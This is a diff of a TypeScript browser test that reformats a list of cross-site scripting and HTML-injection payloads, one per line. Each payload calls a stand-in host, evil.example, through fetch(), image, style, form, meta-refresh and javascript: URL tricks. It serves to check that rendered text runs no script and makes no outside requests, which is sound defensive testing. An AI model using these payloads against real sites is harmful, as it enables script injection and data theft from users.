@@ -9,11 +9,34 @@ const outside = "http://evil.example/";
 const script = `top.ran=1;fetch('${outside}script')`;
 
 export const payloads: readonly string[] = [
-  `<script>${script}</script>`, `</script><script>${script}</script>`, `<img src="${outside}image" onerror="${script}">`, `"><svg onload="${script}"></svg>`, `'><svg/onload=${script}>`, `<iframe srcdoc="<script>${script}</script>"></iframe>`, `<iframe src="javascript:${script}"></iframe>`,
-  `<style>@import url(${outside}style); * { background: url(${outside}ground) }</style>`, `<link rel="stylesheet" href="${outside}link">`, `<meta http-equiv="refresh" content="0;url=${outside}refresh">`, `<base href="${outside}">`, `<object data="${outside}object"></object>`, `<embed src="${outside}embed">`,
-  `<form action="${outside}form"><button class="bait">press</button></form>`, `<a class="bait" href="javascript:${script}">press</a>`, `[press](javascript:top.ran=1)`, `![a](${outside}markdown)`, `<details open ontoggle="${script}">a</details>`, `<input autofocus onfocus="${script}">`, `<b onmouseover="${script}">touch</b>`,
-  `$\\href{javascript:top.ran=1}{press}$`, `<math><mtext><table><mglyph><style><img src=x onerror="${script}">`, `<noscript><p title="</noscript><img src=x onerror=${script}>">`, `javascript:${script}`, `\${top.ran=1}`, `{{top.ran=1}}`, `&lt;script&gt;${script}&lt;/script&gt;`,
-]; // prettier-ignore
+  `<script>${script}</script>`,
+  `</script><script>${script}</script>`,
+  `<img src="${outside}image" onerror="${script}">`,
+  `"><svg onload="${script}"></svg>`,
+  `'><svg/onload=${script}>`,
+  `<iframe srcdoc="<script>${script}</script>"></iframe>`,
+  `<iframe src="javascript:${script}"></iframe>`,
+  `<style>@import url(${outside}style); * { background: url(${outside}ground) }</style>`,
+  `<link rel="stylesheet" href="${outside}link">`,
+  `<meta http-equiv="refresh" content="0;url=${outside}refresh">`,
+  `<base href="${outside}">`,
+  `<object data="${outside}object"></object>`,
+  `<embed src="${outside}embed">`,
+  `<form action="${outside}form"><button class="bait">press</button></form>`,
+  `<a class="bait" href="javascript:${script}">press</a>`,
+  `[press](javascript:top.ran=1)`,
+  `![a](${outside}markdown)`,
+  `<details open ontoggle="${script}">a</details>`,
+  `<input autofocus onfocus="${script}">`,
+  `<b onmouseover="${script}">touch</b>`,
+  `$\\href{javascript:top.ran=1}{press}$`,
+  `<math><mtext><table><mglyph><style><img src=x onerror="${script}">`,
+  `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
+  `javascript:${script}`,
+  `\${top.ran=1}`,
+  `{{top.ran=1}}`,
+  `&lt;script&gt;${script}&lt;/script&gt;`,
+];
 
 /** One text with all of them. */
 export const everything = payloads.join(" ");
@@ -33,7 +56,10 @@ export async function harmlessPage(
   });
   await page.waitForTimeout(300);
   assert.is(await ran(page), undefined, "a script of the text ran");
-  assert.equal(requests.filter((url) => !expected.test(url)), []); // prettier-ignore
+  assert.equal(
+    requests.filter((url) => !expected.test(url)),
+    [],
+  );
   assert.equal(complaints, []);
 }
 
